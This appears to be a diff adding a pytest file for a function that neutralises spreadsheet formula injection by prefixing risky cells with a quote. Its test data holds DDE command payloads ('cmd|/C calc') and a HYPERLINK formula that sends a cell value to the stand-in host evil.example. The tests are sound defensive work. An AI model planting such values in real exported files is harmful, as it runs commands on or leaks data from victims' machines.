@@ -1,0 +1,32 @@
+"""Texts that a spreadsheet would compute."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from trainables.spreadsheet import as_text, written
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "=1+1",
+        '=HYPERLINK("http://evil.example?"&A1)', "\t=1+1", "\r=1+1", "＝1+1", "－A1", "-(1)", "- total", "'=1+1",
+    ],
+)  # fmt: skip
+def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
+    assert as_text(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text", ["12가3456", "-5.20", "+82-10-1234-5678", "=", "-", "@", "", "a=b", "'twas", "''", "%"]
+)
+def test_all_else_stays_as_it_is(text: str) -> None:
+    assert as_text(text) == text == written(text)
+
+
+@given(st.text(st.sampled_from("'=+-@＝\t\ra1(|! ")) | st.text())
+def test_what_is_read_is_what_was_written(text: str) -> None:
+    assert written(as_text(text)) == text
